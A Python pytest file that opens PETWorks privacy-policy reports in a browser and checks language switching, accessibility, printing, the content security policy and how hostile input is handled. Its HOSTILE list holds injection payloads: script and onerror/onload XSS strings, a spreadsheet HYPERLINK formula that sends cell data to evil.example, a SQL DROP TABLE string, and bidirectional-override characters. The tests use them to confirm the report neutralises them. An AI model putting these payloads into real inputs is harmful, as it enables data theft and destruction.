"""The report as a page: in a real browser, in both languages and editions, with hostile names, on paper."""

import functools
import http.server
import json
import re
import threading

import pyarrow as pa
import pytest
from pyarrow import parquet

from PETWorks import check
from PETWorks.gate.policy.policy_rules import RULES_OF_EVERY_POLICY, VALUES_PROTECTED
from PETWorks.render.formats.html import LARGEST_PAGE, PRINTING
from PETWorks.render.language.language import message_text
from policy_checks import CHECK, DAY
from processes import PATIENCE

BUILT_IN = (*RULES_OF_EVERY_POLICY, VALUES_PROTECTED)

HOSTILE = [
    "<script>window.hacked = 1</script>",
    '"><img src=x onerror="window.hacked=1">',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "\u202egnp.exe\u202c \u200f\u2067right to left",
    "{{ 7 * 7 }} {% raw %}",
    "'; DROP TABLE people; --",
    "\x1b[31mred\x07 </style></svg><svg/onload=window.hacked=1>",
    "欄位" * 20,
    "long " * 2000,
]


@functools.cache
def adult():
    return check("data/adult_policy.yaml", as_of=DAY)


class Opened:
    """A page in the browser, and what it said and asked for meanwhile."""

    def __init__(self, browser, path, **options):
        self.context = browser.new_context(**options)
        self.page = self.context.new_page()
        self.page.set_default_timeout(PATIENCE * 1000)
        self.said, self.asked = [], []
        self.page.on("console", lambda message: self.said.append(message.text))
        self.page.on("pageerror", lambda error: self.said.append(str(error)))
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.goto(path.as_uri() if hasattr(path, "as_uri") else path)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.context.close()

    def text(self):
        return self.page.inner_text("body")


def saved(folder, text):
    (folder / "report.html").write_text(text, "utf-8")
    return folder / "report.html"


def violations(page):
    from axe_playwright_python.sync_playwright import Axe

    found = Axe().run(page).response["violations"]
    return [(one["id"], one["impact"], one["nodes"][0]["html"][:200]) for one in found]


# Each edition in both schemes, and opened in both languages; each test looks at both languages.
LOOKS = [
    ("internal", "en", "light"),
    ("internal", "zh-TW", "dark"),
    ("external", "zh-TW", "light"),
    ("external", "en", "dark"),
]


@pytest.mark.parametrize(("edition", "lang", "scheme"), LOOKS)
def test_in_the_browser(browser, tmp_path, edition, lang, scheme):
    path = saved(tmp_path, adult().to_html(lang, edition))
    with Opened(browser, path, color_scheme=scheme, viewport={"width": 1000, "height": 900}) as opened:
        page = opened.page
        english, chinese = message_text("en", "section.identity"), message_text("zh-TW", "section.identity")
        shown, hidden = (english, chinese) if lang == "en" else (chinese, english)
        assert shown in opened.text()
        assert hidden not in opened.text()
        assert page.evaluate("document.documentElement.lang") == lang
        assert violations(page) == []
        page.get_by_label("正體中文" if lang == "en" else "English").check()
        assert hidden in opened.text()
        assert shown not in opened.text()
        assert violations(page) == []
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        assert opened.said == []
        assert opened.asked == [path.as_uri()]


def test_every_visible_text_changes_its_language(browser, tmp_path):
    """In Chinese no English sentence is left but what the policy and the sources say."""
    with Opened(browser, saved(tmp_path, adult().to_html("zh-TW"))) as opened:
        own = {"anybody who downloads the file", "No other table about the same people is released."}
        own |= {"below that the table answers no question any more", "a neighbour", "a colleague"}
        text = opened.text()
        for words in own:
            text = text.replace(words, "")
        text = re.sub(r"文獻來源[\s\S]*?(?=\n\d+ |\Z)", "", text)
        sentences = re.findall(r"(?:\b[A-Za-z]{2,}\b[ ,]+){4,}\w+", text)
        names = ", ".join(adult().document["table"]["quasi_identifiers"])
        left = [one for one in sentences if one not in names and "Personal Data Protection" not in one]
        assert [one for one in left if "Guide to Basic" not in one] == []


def test_without_script(browser, tmp_path):
    with Opened(browser, saved(tmp_path, adult().to_html()), java_script_enabled=False) as opened:
        assert f"All {4 + len(BUILT_IN)} rules are met" in opened.text()
        opened.page.get_by_label("正體中文").check()
        assert "規則均通過" in opened.text()
        assert f"All {4 + len(BUILT_IN)} rules are met" not in opened.text()


def test_the_keyboard_switches_the_language(browser, tmp_path):
    with Opened(browser, saved(tmp_path, adult().to_html())) as opened:
        opened.page.keyboard.press("Tab")
        opened.page.keyboard.press("ArrowRight")
        assert "規則均通過" in opened.text()


def test_on_a_phone_nothing_hangs_over(browser, tmp_path):
    with Opened(browser, saved(tmp_path, adult().to_html()), viewport={"width": 375, "height": 700}) as opened:
        assert opened.page.evaluate("document.documentElement.scrollWidth") <= 375
        assert violations(opened.page) == []


@pytest.mark.parametrize("lang", ["en", "zh-TW"])
@pytest.mark.parametrize("edition", ["internal", "external"])
def test_on_paper(browser, tmp_path, edition, lang):
    with Opened(browser, saved(tmp_path, adult().to_html(lang, edition)), color_scheme="dark") as opened:
        made = opened.page.pdf(prefer_css_page_size=True)
        assert made.startswith(b"%PDF")
        sizes = re.findall(rb"/MediaBox\s*\[\s*0\s+0\s+([\d.]+)\s+([\d.]+)", made)
        assert {(round(float(width)), round(float(height))) for width, height in sizes} == {(595, 842)}
        assert 3 <= len(sizes) <= 12
        opened.page.emulate_media(media="print")
        assert opened.page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
        assert opened.page.is_hidden("fieldset")


def test_a_server_is_asked_for_nothing_but_the_page(browser, tmp_path):
    saved(tmp_path, adult().to_html())
    asked = []

    class Handler(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *_):
            asked.append(self.path)

    handler = functools.partial(Handler, directory=tmp_path)
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        with Opened(browser, f"http://127.0.0.1:{server.server_port}/report.html") as opened:
            opened.page.wait_for_timeout(500)
            assert opened.said == []
        server.shutdown()
    assert asked == ["/report.html"]


def test_the_content_security_policy_holds(browser, tmp_path):
    """Even a script that got into the page would not run, and no style but our own applies."""
    page = (
        adult().to_html().replace("<main>", "<main><script>window.hacked = 1</script><p style='color:red' id=p>x</p>")
    )
    with Opened(browser, saved(tmp_path, page)) as opened:
        assert opened.page.evaluate("window.hacked") is None
        assert opened.page.evaluate("getComputedStyle(document.getElementById('p')).color") != "rgb(255, 0, 0)"
        assert any("Content Security Policy" in text for text in opened.said)


# --- hostile content


def hostile_policy(folder, names, rows=6):
    columns = [pa.array([HOSTILE[(place + row) % len(HOSTILE)] for row in range(rows)]) for place in range(len(names))]
    parquet.write_table(pa.table(columns, names=names), folder / "t.parquet")
    known, sensitive = names[:8], names[8:10]
    (folder / "p.yaml").write_text(
        json.dumps(
            {
                "petworks_policy": "1",
                "title": HOSTILE[0],
                "data": "t.parquet",
                "roles": {"quasi_identifiers": known, "sensitive_attributes": sensitive},
                "context": {"adversaries": [{"who": HOSTILE[1], "knows": known[:2]}], "assumptions": HOSTILE},
                "rules": [{"measure": "k-anonymity", "k": "2", "name": HOSTILE[2], "why": HOSTILE[3]}],
                "subsets": {"sizes": "1-2", "limits": {"uniques": "0.1"}},
                "waivers": [{"rule": HOSTILE[2], "owner": HOSTILE[0], "reason": HOSTILE[6], "expires": "2030-01-01"}],
            }
        ),
        "utf-8",
    )
    return folder / "p.yaml"


@pytest.mark.parametrize("edition", ["internal", "external"])
def test_hostile_names_and_cells(browser, tmp_path, edition):
    result = check(hostile_policy(tmp_path, [f"{name} {place}" for place, name in enumerate(HOSTILE)]), as_of=DAY)
    text = result.to_html(edition=edition)
    assert len(text.encode()) < 300_000
    with Opened(browser, saved(tmp_path, text)) as opened:
        page = opened.page
        assert page.evaluate("window.hacked") is None
        assert page.evaluate("[...document.scripts].map(script => script.text)") == [PRINTING]
        assert page.evaluate("document.querySelectorAll('img, iframe, object, form, a[href^=http]').length") == 0
        assert HOSTILE[0] in opened.text(), "it stands there as text"
        assert "… [10," in opened.text(), "long names are cut, with a note"
        assert not re.search("[\u202a-\u202e\u2066-\u2069\u200f\x1b]", text)
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        assert violations(page) == []
        assert opened.said == []


def test_more_columns_than_are_shown(tmp_path):
    names = [f"{'column ' * (200 if place % 50 == 0 else 1)}{place}" for place in range(120)]
    result = check(hostile_policy(tmp_path, names), as_of=DAY)
    for edition in ("internal", "external"):
        text = result.to_html(edition=edition)
        assert len(text.encode()) < LARGEST_PAGE / 4
        assert "Shown are 100 of 120" in text
        assert [error.message for error in CHECK.iter_errors(result.to_dict(edition))] == []
        assert len(result.to_dict(edition)["columns"]) == 120


@pytest.mark.slow
def test_many_of_everything_stays_small(tmp_path):
    names = [f"q{place}" for place in range(16)] + [f"s{place}" for place in range(30)]
    columns = [pa.array([str(row % (2 + place % 5)) for row in range(80)]) for place in range(len(names))]
    parquet.write_table(pa.table(columns, names=names), tmp_path / "t.parquet")
    policy = {
        "petworks_policy": 1,
        "data": "t.parquet",
        "roles": {"quasi_identifiers": names[:16], "sensitive_attributes": names[16:]},
        "subsets": {"sizes": "1-4", "limits": {"uniques": 0.0001, "inference": 0.01}},
        "context": {"assumptions": ["x" * 20000] * 50, "adversaries": [{"who": "w" * 20000, "knows": names[:16]}] * 50},
        "rules": [{"measure": "k-anonymity", "k": 2, "name": "n" * 19990 + str(place)} for place in range(40)],
    }
    (tmp_path / "p.yaml").write_text(json.dumps(policy), "utf-8")
    with pytest.raises(ValueError, match="larger than"):
        check(tmp_path / "p.yaml")
    policy["context"]["assumptions"] = policy["context"]["assumptions"][:10]
    policy["context"]["adversaries"] = policy["context"]["adversaries"][:5]
    policy["rules"] = policy["rules"][:20]
    (tmp_path / "p.yaml").write_text(json.dumps(policy), "utf-8")
    assert len(check(tmp_path / "p.yaml", as_of=DAY).to_html().encode()) < LARGEST_PAGE


def test_as_many_rules_as_a_policy_may_have(tmp_path):
    (tmp_path / "t.csv").write_text("age;zip\n30;1\n31;1\n")
    text = "<&\"'>x" * 80
    names = [f"{place} {text[:200]}" for place in range(200)]
    policy = {
        "petworks_policy": 1,
        "data": "t.csv",
        "roles": {"quasi_identifiers": ["age", "zip"]},
        "rules": [{"measure": "k-anonymity", "k": 2, "name": name, "why": text} for name in names],
        "waivers": [{"rule": name, "owner": text, "reason": text, "expires": "2026-11-20"} for name in names],
    }
    (tmp_path / "p.yaml").write_text(json.dumps(policy), "utf-8")
    result = check(tmp_path / "p.yaml", as_of=DAY)
    assert len(result.to_html().encode()) < LARGEST_PAGE
    assert f"Shown are 50 of {200 + len(RULES_OF_EVERY_POLICY)}" in result.to_html()


def test_size_of_the_report_of_nine_columns():
    assert len(adult().document["columns"]) == 9
    for edition in ("internal", "external"):
        assert len(adult().to_html(edition=edition).encode()) < 300_000
